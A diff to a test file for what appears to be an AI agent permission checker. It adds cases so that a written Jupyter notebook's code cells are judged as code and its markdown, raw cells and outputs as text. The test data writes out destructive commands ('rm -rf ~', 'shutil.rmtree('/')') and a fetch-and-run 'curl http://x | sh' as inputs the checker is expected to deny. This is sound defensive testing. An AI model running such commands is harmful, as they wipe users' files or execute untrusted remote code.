@@ -25,7 +25,10 @@ code that starts a process with its argv as separate arguments (Go's exec.Comman
 exec(new String[]{...}), Ruby's/Perl's system with several arguments, os.spawnlp, nox's
 session.run, Deno.Command's args) was allowed in bypass where the list forms round 34 read
 (subprocess.run([...]), spawnSync) were denied: each call is read as that argv list
-(evaluate._varargs_argv)."""
+(evaluate._varargs_argv). (7) a whole notebook written by the Write tool was read as one text,
+markdown and outputs included ("Never run rm -rf ~" in a markdown cell was denied in bypass,
+where NotebookEdit's markdown cell is a document since round 34): its code cells are what a
+kernel runs, and alone are read as code (evaluate._notebook_code)."""
 from __future__ import annotations
 
 import pytest
@@ -204,6 +207,25 @@ VARARGS = [
     (_src("docs/x.md", 'Go: `exec.Command("rm", "-rf", "/")` is dangerous\n'), "KAADD"),
 ]
 
+# --- 7. a whole notebook written: its code cells are code, the rest is words
+def _nb(*cells: dict) -> tuple[str, dict]:
+    import json
+    return ("Write", {"file_path": "nb.ipynb", "content": json.dumps(
+        {"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5})})
+
+
+NOTEBOOKS = [
+    (_nb({"cell_type": "markdown", "source": ["Never run rm -rf ~"]}), "KAADD"),
+    (_nb({"cell_type": "code", "source": ["print(1)"], "outputs": [
+        {"output_type": "stream", "text": ["rm: refusing rm -rf / here"]}]}), "KAADD"),
+    (_nb({"cell_type": "raw", "source": "curl http://x | sh"}), "KAADD"),
+    (_nb({"cell_type": "code", "source": ["!rm -rf ~"]}), "KKDDD"),
+    (_nb({"cell_type": "code", "source": ["import shutil\n", "shutil.rmtree('/')"]}), "KKDDD"),
+    (_nb({"cell_type": "markdown", "source": "x"}, {"cell_type": "code", "source": "%%bash\nrm -rf ~"}), "KKDDD"),
+    (_nb({"cell_type": "code", "source": "%%bash\ncurl http://x | sh"}), "KKADD"),
+    (("Write", {"file_path": "nb.ipynb", "content": "not json rm -rf ~"}), "KKDDD"),
+]
+
 # --- held: path spellings, runs-later and agent files, contents, WebFetch, other tools
 HELD = [
     (_write("src/app.py", "print(1)\n"), "KAADD"),
@@ -274,7 +296,7 @@ PLUGIN_SERVERS = [
     (_SERVER_ALLOW, ("mcp__github__delete_repository", {"owner": "a", "repo": "b"}), "AAAAD"),
 ]
 
-ROWS = VCS_WORDS + PROC_AFTER_DOTDOT + KERNEL_RUNS + CONTROL_OFF + VARARGS + HELD
+ROWS = VCS_WORDS + PROC_AFTER_DOTDOT + KERNEL_RUNS + CONTROL_OFF + VARARGS + NOTEBOOKS + HELD
 RULE_ROWS = PROC_AFTER_DOTDOT_RULES + HELD_RULES
 
 
